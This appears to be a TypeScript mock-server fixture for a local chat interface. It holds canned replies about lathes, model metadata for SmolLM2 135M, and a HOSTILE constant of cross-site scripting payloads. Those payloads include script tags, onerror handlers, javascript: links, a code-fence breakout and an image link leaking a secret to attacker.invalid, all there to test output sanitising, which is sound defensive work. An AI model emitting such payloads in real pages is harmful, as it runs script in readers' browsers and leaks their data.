// What the mock server answers. A message that begins with `!` plays the fault or the
// special text of that name.

export const MARKDOWN = `# A lathe in three lines

A **lathe** turns a piece of wood or metal while a *fixed tool* shapes it.

1. Fix the blank between the centres.
2. Set the speed, \`n = v / (π · d)\`.
3. Cut, measure, cut again.

| Wood | Speed |
|------|------:|
| Oak  | 1,200 |
| Pine | 1,800 |

\`\`\`python
# Turns per minute for a cutting speed in metres per minute.
def turns(speed: float, diameter_mm: float) -> float:
    return speed / (3.14159 * diameter_mm / 1000)

print(turns(90, 40))  # 716
\`\`\`

> Measure twice, cut once. See https://example.com/turning.
`;

export const CHINESE = `车床让工件**旋转**，刀具固定不动，一点一点削出形状。

1. 先把木料夹在两个顶尖之间。
2. 调好转速：直径越大，转得越慢。
3. 轻轻进刀，量一量，再进一刀。

\`\`\`python
# 由切削速度（米/分）求每分钟转数。
def turns(speed: float, diameter_mm: float) -> float:
    return speed / (3.14159 * diameter_mm / 1000)
\`\`\`

所以孩子可以这样记住它：**“东西转，刀不动。”**这样就不会弄错了。
`;

// Everything a model could say to act in the page of its reader.
export const HOSTILE = `<script>window.hacked = 1</script>
<img src=x onerror="window.hacked = 2">
<svg onload="window.hacked = 3"></svg>
<iframe srcdoc="<script>parent.hacked = 4</script>"></iframe>
<a href="javascript:window.hacked = 5">click</a>
[click](javascript:window.hacked=6) [click](data:text/html,<script>top.hacked=7</script>)
![x](https://attacker.invalid/leak?secret "t")
<style>body { display: none }</style>
\`<img src=x onerror=window.hacked=8>\`

\`\`\`html"><img src=x onerror=window.hacked=9>
</code></pre><script>window.hacked = 10</script>
\`\`\`

| <b onmouseover=window.hacked=11>x</b> | y |
|---|---|
| <img src=x onerror=window.hacked=12> | [z](vbscript:x) |
`;

const SHORT = 'A lathe turns a piece of wood while a tool stays still and shapes it. ';

export function replyTo(message: string): string {
  switch (message.trim().split(/\s/, 1)[0]) {
    case '!xss':
      return HOSTILE;
    case '!empty':
      return '';
    case '!long':
    case '!slow':
    case '!length':
      return SHORT.repeat(20);
    case '!think':
      return '<think>The reader asks for a thought. I will keep it short.</think>\n\nHere is the answer.';
    default:
      if (/\p{Script=Han}/u.test(message)) return CHINESE;
      return /lathe|markdown/i.test(message) ? MARKDOWN : SHORT.repeat(2);
  }
}

// Pieces as a tokenizer would cut them, near enough.
export function pieces(text: string): string[] {
  return text.match(/\s*[\p{Script=Han}]{1,2}|\s*[\w]{1,6}|\s*[^\w\s]{1,3}|\s+/gu) ?? [];
}

export const FACTS = {
  path: 'models/smollm2-135m/SmolLM2-135M-Instruct-Q8_0.gguf',
  format: 'gguf',
  architecture: 'llama',
  name: 'SmolLM2 135M Instruct',
  license: 'apache-2.0',
  parameters: 134515008,
  file_bytes: 144811360,
  tensor_count: 272,
  types: [
    { type: 'Q8_0', tensors: 211, elements: 134479872, bytes: 142884864, share: 0.99902 },
    { type: 'F32', tensors: 61, elements: 35136, bytes: 140544, share: 0.00098 },
  ],
  context_length: 8192,
  layers: 30,
  width: 576,
  feed_forward_width: 1536,
  heads: 9,
  kv_heads: 3,
  head_dim: 64,
  vocab_size: 49152,
  sliding_window: null,
  sliding_layers: 0,
  tied_head: true,
  rope: { base: 100000, scaling: 'none' },
  tokenizer: {
    description: 'byte-level BPE (smollm)',
    vocab_size: 49152,
    bos: { id: 1, text: '<|im_start|>' },
    eos: { id: 2, text: '<|im_end|>' },
    end_of_generation: [
      { id: 0, text: '<|endoftext|>' },
      { id: 2, text: '<|im_end|>' },
    ],
  },
  chat_template: true,
  memory: { weight_bytes: 143025408, kv_bytes_per_token_f16: 23040, kv_bytes_per_token_f32: 46080 },
};
